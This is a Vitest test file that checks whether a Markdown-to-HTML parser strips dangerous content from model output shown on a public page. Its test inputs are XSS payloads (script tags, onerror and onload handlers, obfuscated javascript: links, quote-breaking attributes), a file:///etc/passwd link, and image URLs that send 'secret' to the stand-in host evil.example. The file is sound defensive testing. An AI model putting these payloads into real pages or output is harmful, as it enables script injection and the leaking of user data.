import { describe, expect, it } from "vitest";
import { parse as markdownHtml } from "./markdown-html.parser.ts";

const EVIL = "https://evil.example/?q=secret";
const TEXTS = {
  "a picture": `![look](${EVIL})`,
  "a picture by reference": `![look][1]\n\n[1]: ${EVIL}`,
  "a picture in a link": `[![look](${EVIL})](${EVIL})`,
  "HTML with a picture": `Hello <img src="${EVIL}" onerror="alert(1)"> there`,
  "a block of HTML": `<div style="background:url(${EVIL})"><script>alert(1)</script></div>`,
  "a script": `<script>alert(1)</script>\n\n<SCRIPT\n>alert(1)</SCRIPT >`,
  "a frame": `<iframe src="${EVIL}"></iframe>\n\n<object data="${EVIL}"></object>`,
  "a style sheet": `<link rel="stylesheet" href="${EVIL}"><style>@import url(${EVIL})</style>`,
  "a script as a link":
    "[go](javascript:alert(1)) [go](JaVaScRiPt:alert(1)) [go](\tjavascript:alert(1)) [go](java&#115;cript:alert(1)) [go](&#x6a;avascript:alert(1))",
  "other schemes":
    "[a](data:text/html,x) [b](vbscript:x) [c](file:///etc/passwd) [d](//evil.example)",
  "an address in angle brackets": '<javascript:alert(1)> <https://a.example/"onmouseover=alert(1)>',
  "quotes in an address": `[a](https://a.example/"onmouseover="alert(1)) [b](<https://b.example/' x='>)`,
  "quotes in a title": `[a](https://a.example 'x" onmouseover="alert(1)')`,
  "quotes in a language": '```js" onload="alert(1)\nx\n```\n\n~~~<script>\nx\n~~~',
  "a script in code": "```html\n<script>alert(1)</script>\n```\n\n`<script>alert(1)</script>`",
  "a script in a table": "| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |",
  "a script in a list": "- <script>alert(1)</script>\n  - [ ] <svg onload=alert(1)>",
  "letters by their names": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
  "an escaped bracket": "\\<script>alert(1)\\</script>",
  "a comment": "<!-- --><script>alert(1)</script> <?php ?> <![CDATA[<script>]]>",
  "what is not closed": `![look](${EVIL} <script src="x`,
  "quotes within quotes": `${">".repeat(200)} <script>alert(1)</script>`,
};

/** Elements and attributes that load nothing and run nothing. */
const HARMLESS =
  /^<(?:a|blockquote|br|code|del|div|em|h[3-6]|hr|li|ol|p|pre|span|strong|t(?:able|body|d|h|head|r)|ul)(?: (?:class|dir|href|rel|start|tabindex|target|title)="[^"<>]*")*>$/;

describe("a model's text on a public page (A134)", () => {
  it.each(Object.entries(TEXTS))("%s loads nothing and runs nothing", (_what, text) => {
    const html = markdownHtml(text);
    for (const tag of html.match(/<[a-z!?][^>]*>?/gi) ?? []) expect(tag).toMatch(HARMLESS);
    for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^https?:/);
    expect(html).not.toMatch(/<script/i);
  });

  it("is rendered as Markdown with highlighted code, and its links send no referrer", () => {
    const html = markdownHtml(
      "# Done\n\nI **built** `it` with [docs](https://a.example/b):\n\n1. one\n2. two\n\n```ts\nconst a = 1;\n```",
    );
    expect(html).toContain("<h3>Done</h3>");
    expect(html).toContain("<strong>built</strong> <code>it</code>");
    expect(html).toContain("<ol><li>one</li><li>two</li></ol>");
    expect(html).toContain('<span class="k">const</span>');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });
});
